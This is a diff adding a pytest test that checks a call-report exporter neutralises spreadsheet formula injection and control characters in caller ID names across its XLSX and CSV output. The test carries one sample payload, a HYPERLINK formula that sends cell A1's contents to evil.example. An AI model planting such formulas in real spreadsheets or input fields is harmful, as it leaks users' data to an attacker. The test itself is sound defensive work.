@@ -147,6 +147,30 @@ def test_xlsx_structure() -> None:
     assert book["missed"].max_row == len(report["missed"]) + 1
 
 
+def test_a_caller_s_text_is_never_a_formula_nor_breaks_the_file() -> None:
+    """A caller ID name is the caller's to choose: one that starts with = ran as a formula in
+    the XLSX (openpyxl stores it so) and in the CSV; a control character in it failed the
+    whole XLSX (a schedule's every retry). Numbers stay numbers."""
+    openpyxl = pytest.importorskip("openpyxl")
+    report = day_report("en")
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    report["top_callers"] = [
+        {"number": "+79161234567", "name": evil, "calls": 1, "answered": 1, "missed": 0,
+         "talk_seconds": 5},
+        {"number": "84991112233", "name": "Ivan\x1bPetrov", "calls": 1, "answered": 0,
+         "missed": 1, "talk_seconds": 0},
+    ]  # fmt: skip
+    sheet = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))["top_callers"]
+    cells = [(sheet.cell(row=r, column=2).value, sheet.cell(row=r, column=2).data_type)
+             for r in (2, 3)]  # fmt: skip
+    assert cells == [(evil, "s"), ("IvanPetrov", "s")]
+    assert sheet.cell(row=2, column=1).value == "+79161234567"
+    lines = render_csv(report).splitlines()
+    row = next(line for line in lines if line.startswith("+79161234567,"))
+    assert row.split(",", 1)[1].startswith("\"'=HYPERLINK(")  # quoted, with a leading '
+    assert any(line.startswith("84991112233,IvanPetrov,") for line in lines)
+
+
 def test_file_names() -> None:
     assert file_name(day_report(), "xlsx") == "calls-2016-03-18.xlsx"
     assert file_name(week_report(), "csv") == "calls-2024-03-04..2024-03-11.csv"
